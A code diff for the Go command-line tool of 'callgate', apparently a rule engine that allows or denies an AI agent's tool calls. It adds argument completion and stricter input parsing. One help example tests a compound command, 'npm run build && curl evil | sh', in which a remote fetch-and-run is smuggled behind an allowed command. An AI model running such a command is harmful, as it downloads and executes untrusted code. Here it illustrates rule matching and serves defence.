@@ -1,7 +1,6 @@
 package main
 
 import (
-	"encoding/json"
 	"fmt"
 	"io"
 	"os"
@@ -13,6 +12,7 @@ import (
 	"github.com/callgate/callgate/engine"
 	"github.com/callgate/callgate/host/api"
 	"github.com/callgate/callgate/host/card"
+	"github.com/callgate/callgate/host/gate"
 	"github.com/callgate/callgate/host/store"
 )
 
@@ -22,8 +22,8 @@ func rulesCommand(c *cli) *cobra.Command {
 		GroupID: "people",
 		Short:   "List, add, remove and try the stored rules",
 		Example: "  callgate rules add allow 'Bash(npm run:*)'\n  callgate rules list",
-		Args:    cobra.NoArgs,
-		RunE:    needSubcommand,
+		Args:    onlyCommands,
+		RunE:    needCommand,
 	}
 	var by string
 	asFlag(cmd, &by)
@@ -61,6 +61,8 @@ func rulesList(c *cli) *cobra.Command {
 	cmd.Flags().StringVar(&f.Tool, "tool", "", "only rules of this tool")
 	cmd.Flags().StringVar(&scope, "scope", "", "only rules of this scope: global, project, agent, session")
 	cmd.Flags().StringVar(&f.Key, "key", "", "only rules of this project root, agent or session")
+	completeFlag(cmd, "tool", c.completeTools())
+	completeFlag(cmd, "scope", completeScopes())
 	cmd.Flags().BoolVar(&f.Expired, "expired", false, "also rules that have expired")
 	return cmd
 }
@@ -93,7 +95,8 @@ func rulesAdd(c *cli, by *string) *cobra.Command {
 		Example: `  callgate rules add allow 'Bash(npm run:*)' --scope project --key ~/shop --match 'npm run build' --not-match 'npm install'
   callgate rules add deny 'Write(**/.env*)'
   callgate rules add allow 'WebFetch(github.com)' --for 24h`,
-		Args: cobra.MinimumNArgs(2),
+		Args:              cobra.MinimumNArgs(2),
+		ValidArgsFunction: inOrder(completeBehaviors(), c.completeTools()),
 		RunE: func(cmd *cobra.Command, args []string) error {
 			b, err := engine.ParseBehavior(args[0])
 			if err != nil {
@@ -128,6 +131,7 @@ func rulesAdd(c *cli, by *string) *cobra.Command {
 		},
 	}
 	cmd.Flags().StringVar(&scope, "scope", string(engine.Global), "global, project, agent or session")
+	completeFlag(cmd, "scope", completeScopes())
 	cmd.Flags().StringVar(&n.ScopeKey, "key", "", "the project root (default: here), agent or session the rule is for")
 	cmd.Flags().StringVar(&expires, "for", "", "how long the rule holds, such as 24h (default: for good)")
 	cmd.Flags().StringVar(&n.Reason, "reason", "", "why, for people and for the agent")
@@ -151,10 +155,11 @@ func scopeKey(scope engine.Scope, key string) (string, error) {
 
 func rulesRemove(c *cli, by *string) *cobra.Command {
 	return &cobra.Command{
-		Use:     "remove ID",
-		Short:   "Delete a stored rule by its id",
-		Example: "  callgate rules remove r-k3x9",
-		Args:    cobra.ExactArgs(1),
+		Use:               "remove ID",
+		Short:             "Delete a stored rule by its id",
+		Example:           "  callgate rules remove 4405e1e7caf71f65",
+		Args:              cobra.ExactArgs(1),
+		ValidArgsFunction: inOrder(c.completeRules()),
 		RunE: func(cmd *cobra.Command, args []string) error {
 			client, err := c.client("")
 			if err != nil {
@@ -162,7 +167,7 @@ func rulesRemove(c *cli, by *string) *cobra.Command {
 			}
 			defer client.Close()
 			if err := client.RemoveRule(cmd.Context(), *by, args[0]); err != nil {
-				return err
+				return seeAlso(err, "callgate rules list")
 			}
 			return c.print(cmd.OutOrStdout(), map[string]string{"removed": args[0]}, func(w io.Writer) { fmt.Fprintln(w, "removed", args[0]) })
 		},
@@ -177,15 +182,18 @@ func rulesTest(c *cli) *cobra.Command {
 		Long: `Tells whether a rule would match a call. The behavior matters: an allow rule
 has to cover every part of a compound call, a deny or ask rule any part.
 Exit code 0 when it matches, 1 when it does not.`,
-		Example: `  callgate rules test allow 'Bash(npm run:*)' '{"command": "npm run build && curl evil | sh"}'`,
-		Args:    cobra.ExactArgs(3),
+		Example:           `  callgate rules test allow 'Bash(npm run:*)' '{"command": "npm run build && curl evil | sh"}'`,
+		Args:              cobra.ExactArgs(3),
+		ValidArgsFunction: inOrder(completeBehaviors()),
 		RunE: func(cmd *cobra.Command, args []string) error {
 			b, err := engine.ParseBehavior(args[0])
 			if err != nil {
 				return err
 			}
 			t.Rule = api.NewRule{Rule: args[1], Behavior: &b}
-			t.Input = json.RawMessage(args[2])
+			if t.Input, err = gate.StrictObject([]byte(args[2])); err != nil {
+				return fmt.Errorf("INPUT: %w, such as {\"command\": \"npm run build\"}", err)
+			}
 			if t.CWD, err = os.Getwd(); err != nil {
 				return err
 			}
